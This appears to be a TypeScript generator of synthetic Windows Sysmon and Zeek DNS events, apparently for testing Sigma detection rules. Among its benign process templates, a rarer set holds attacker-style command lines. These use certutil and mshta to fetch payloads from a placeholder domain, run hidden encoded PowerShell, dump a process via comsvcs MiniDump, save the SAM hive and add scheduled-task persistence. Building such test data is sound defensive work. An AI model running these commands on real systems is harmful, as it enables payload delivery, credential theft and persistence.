/** Events of Windows hosts in Sysmon's words: processes first, and files, registry, libraries, connections, names. */
import { openSchema } from '#shared/sigma/index.ts';
import type { Row } from './columns.ts';
import type { Source } from './lanes.ts';
import { fill, Mix, type Random, Zipf } from './templates.ts';

const system32 = 'C:\\Windows\\System32\\';

const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const chrome = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const defender = 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe';
const [services, svchost] = [`${system32}services.exe`, `${system32}svchost.exe`];
const [explorer, cmd] = ['C:\\Windows\\explorer.exe', `${system32}cmd.exe`];
const agent = 'C:\\Program Files\\{word}\\agent.exe';

type Program = readonly [image: string, original: string, parent: string, line: string];

const programs = new Mix<Program>(
  [
    [svchost, 'svchost.exe', services, `${svchost} -k netsvcs -p -s {word}{n}`],
    [`${system32}conhost.exe`, 'CONHOST.EXE', cmd, `\\??\\${system32}conhost.exe 0xffffffff -ForceV1`],
    [
      chrome,
      'chrome.exe',
      chrome,
      `"${chrome}" --type=renderer --lang=en-US --renderer-client-id={n} --launch-time-ticks={pid}{pid} --field-trial-handle={pid},i,{pid}{pid},{n}`,
    ],
    [cmd, 'Cmd.Exe', agent, `${cmd} /d /c D:\\build\\{word}{n}\\run.cmd {guid}`],
    [`${system32}taskhostw.exe`, 'taskhostw.exe', svchost, 'taskhostw.exe {guid}'],
    [powershell, 'PowerShell.EXE', cmd, 'powershell.exe -File D:\\scripts\\{word}-{word}.ps1 -Id {guid}'],
    [
      `${system32}backgroundTaskHost.exe`,
      'backgroundTaskHost.exe',
      svchost,
      `"${system32}backgroundTaskHost.exe" -ServerName:{word}.AppX{hex}.mca`,
    ],
    [defender, 'MsMpEng.exe', services, `"${defender}"`],
    [`${system32}RuntimeBroker.exe`, 'RuntimeBroker.exe', svchost, `${system32}RuntimeBroker.exe -Embedding`],
    [
      `${system32}SearchIndexer.exe`,
      'SearchIndexer.exe',
      services,
      `${system32}SearchIndexer.exe /Embedding {n}`,
    ],
    [
      'C:\\Program Files\\Git\\cmd\\git.exe',
      'git.exe',
      cmd,
      'git.exe -C D:\\src\\{word}{n} fetch origin {hex}',
    ],
    [
      `${system32}wbem\\WmiPrvSE.exe`,
      'Wmiprvse.exe',
      svchost,
      `${system32}wbem\\wmiprvse.exe -secured -Embedding`,
    ],
    [
      'C:\\Python312\\python.exe',
      'python.exe',
      cmd,
      'python.exe D:\\tools\\{word}.py --batch {guid} --out D:\\data\\{word}-{hex}.csv',
    ],
    [`${system32}dllhost.exe`, 'dllhost.exe', svchost, `${system32}DllHost.exe /Processid:{{guid}}`],
    [
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
      'Outlook.exe',
      explorer,
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle {n}',
    ],
    [
      'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\mscorsvw.exe',
      'mscorsvw.exe',
      svchost,
      'mscorsvw.exe -StartupEvent {n} -InterruptEvent 0 -NGENProcess {hex} -Pipe {hex}',
    ],
    [explorer, 'EXPLORER.EXE', `${system32}userinit.exe`, explorer],
    [`${system32}ctfmon.exe`, 'CTFMON.EXE', svchost, '"ctfmon.exe"'],
  ],
  [
    [`${system32}whoami.exe`, 'whoami.exe', cmd, 'whoami /all'],
    [
      `${system32}certutil.exe`,
      'CertUtil.exe',
      cmd,
      'certutil.exe -urlcache -split -f http://{domain}/{hex}.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex}.exe',
    ],
    [
      powershell,
      'PowerShell.EXE',
      cmd,
      'powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA{hex}{hex}',
    ],
    [`${system32}mshta.exe`, 'MSHTA.EXE', explorer, 'mshta.exe http://{domain}/{hex}.hta'],
    [
      `${system32}rundll32.exe`,
      'RUNDLL32.EXE',
      cmd,
      `rundll32.exe ${system32}comsvcs.dll, MiniDump {pid} C:\\Windows\\Temp\\{hex}.dmp full`,
    ],
    [
      `${system32}schtasks.exe`,
      'schtasks.exe',
      cmd,
      'schtasks.exe /create /sc minute /tn {word}{n} /tr C:\\Users\\Public\\{hex}.exe',
    ],
    [`${system32}net.exe`, 'net.exe', cmd, 'net use \\\\fs{n}\\{word} /user:CORP\\{user}'],
    [`${system32}reg.exe`, 'reg.exe', cmd, 'reg save HKLM\\SAM C:\\Windows\\Temp\\{hex}'],
  ],
);

const accounts = new Zipf([
  'NT AUTHORITY\\SYSTEM',
  'NT AUTHORITY\\NETWORK SERVICE',
  'CORP\\{user}',
  'NT AUTHORITY\\LOCAL SERVICE',
] as const);

function processCreation(random: Random): Row {
  const [image, original, parent, line] = programs.pick(random);
  const system = parent === services || parent === svchost;
  return {
    Image: image,
    OriginalFileName: original,
    CommandLine: fill(line, random),
    CurrentDirectory: fill(system ? system32 : 'C:\\Users\\{user}\\', random),
    User: system ? accounts.pick(random) : fill('CORP\\{user}', random),
    IntegrityLevel: system ? 'System' : random() < 0.99 ? 'Medium' : 'High',
    Hashes: fill('MD5={hex}{hex}{hex}{hex},SHA256={sha},IMPHASH={hex}{hex}{hex}{hex}', random),
    Company: 'Microsoft Corporation',
    Description: `${original} host`,
    Product: 'Microsoft® Windows® Operating System',
    FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
    ProcessId: Math.floor(random() * 65_536),
    ProcessGuid: fill('{{guid}}', random),
    LogonId: fill('0x{hex}', random),
    ParentImage: fill(parent, random),
    ParentCommandLine: fill(`${parent} -k {word} -p -s {word}{n}`, random),
    ParentProcessId: Math.floor(random() * 65_536),
    Computer: fill('WS{n}.corp.local', random),
    EventID: 1,
  };
}

const imageOf = (random: Random) => programs.pick(random)[0];
const userOf = (random: Random) => fill(random() < 0.5 ? 'CORP\\{user}' : accounts.pick(random), random);

const files = new Mix(
  [
    'C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex}.tmp',
    'C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{hex}',
    'C:\\Windows\\Prefetch\\{word}.EXE-{hex}.pf',
    'C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\WER{hex}.tmp.xml',
    'C:\\Windows\\SoftwareDistribution\\Download\\{sha}\\{word}.cab',
    'D:\\data\\{word}\\{guid}.parquet',
    'C:\\Users\\{user}\\Documents\\{word} {n}.docx',
    'C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\{guid}.log',
  ],
  [
    'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{word}.lnk',
    'C:\\Windows\\Temp\\{hex}.ps1',
    'C:\\Users\\Public\\{hex}.exe',
    'C:\\Windows\\Temp\\lsass_{pid}.dmp',
  ],
);

function fileEvent(random: Random): Row {
  return {
    Image: imageOf(random),
    TargetFilename: fill(files.pick(random), random),
    User: userOf(random),
    ProcessGuid: fill('{{guid}}', random),
    ProcessId: Math.floor(random() * 65_536),
    CreationUtcTime: fill('2026-03-{n} 10:{n}:{n}', random),
    EventID: 11,
  };
}

const keys = new Mix(
  [
    'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-{pid}-{pid}-{n}\\{word}',
    'HKU\\S-1-5-21-{pid}-{pid}-{n}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\{n}',
    'HKLM\\System\\CurrentControlSet\\Control\\Class\\{{guid}}\\{n}',
    'HKLM\\SOFTWARE\\{word}\\{word}{n}',
  ],
  [
    'HKU\\S-1-5-21-{pid}-{pid}-{n}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{word}',
    'HKLM\\System\\CurrentControlSet\\Services\\{word}{n}\\ImagePath',
  ],
);

function registrySet(random: Random): Row {
  return {
    Image: imageOf(random),
    TargetObject: fill(keys.pick(random), random),
    Details: fill(random() < 0.6 ? 'DWORD (0x0000000{n})' : 'C:\\Program Files\\{word}\\{word}.exe', random),
    EventType: 'SetValue',
    User: userOf(random),
    EventID: 13,
  };
}

function imageLoad(random: Random): Row {
  return {
    Image: imageOf(random),
    ImageLoaded: fill(`${system32}{word}{n}.dll`, random),
    Signed: random() < 0.95 ? 'true' : 'false',
    Signature: 'Microsoft Windows',
    Hashes: fill('SHA256={sha},IMPHASH={hex}{hex}{hex}{hex}', random),
    EventID: 7,
  };
}

function networkConnection(random: Random): Row {
  return {
    Image: imageOf(random),
    User: userOf(random),
    Protocol: 'tcp',
    Initiated: random() < 0.8 ? 'true' : 'false',
    SourceIp: fill('{ip}', random),
    SourcePort: 32_768 + Math.floor(random() * 28_000),
    DestinationIp: fill('{ip}', random),
    DestinationPort: random() < 0.9 ? 443 : 8080,
    DestinationHostname: fill('{domain}', random),
    EventID: 3,
  };
}

function dnsQuery(random: Random): Row {
  return {
    Image: imageOf(random),
    QueryName: fill(random() < 0.9 ? '{domain}' : '{hex}{hex}.{domain}', random),
    QueryStatus: random() < 0.95 ? '0' : '9003',
    QueryResults: fill('::ffff:{ip};', random),
    User: userOf(random),
    EventID: 22,
  };
}

const source = (share: number, category: string, make: Source['make']): Source => ({
  share,
  type: category,
  schema: openSchema({ product: 'windows', category }),
  logsource: { product: 'windows', category },
  make,
});

export const windowsProcesses: readonly Source[] = [
  source(0.7, 'process_creation', processCreation),
  source(0.1, 'image_load', imageLoad),
  source(0.1, 'registry_set', registrySet),
  source(0.1, 'network_connection', networkConnection),
];
export const sysmonFiles: readonly Source[] = [source(1, 'file_event', fileEvent)];
export const dns: readonly Source[] = [
  source(0.5, 'dns_query', dnsQuery),
  {
    share: 0.5,
    type: 'zeek dns',
    schema: openSchema({ product: 'zeek', service: 'dns', category: 'dns' }),
    logsource: { product: 'zeek', service: 'dns', category: 'dns' },
    make: (random) => ({
      'id.orig_h': fill('{ip}', random),
      'id.resp_p': 53,
      query: fill(random() < 0.9 ? '{domain}' : '{hex}{hex}.{domain}', random),
      qtype_name: random() < 0.7 ? 'A' : random() < 0.8 ? 'AAAA' : 'TXT',
      rcode_name: random() < 0.95 ? 'NOERROR' : 'NXDOMAIN',
      Z: 0,
      answers: fill('{ip}', random),
    }),
  },
];
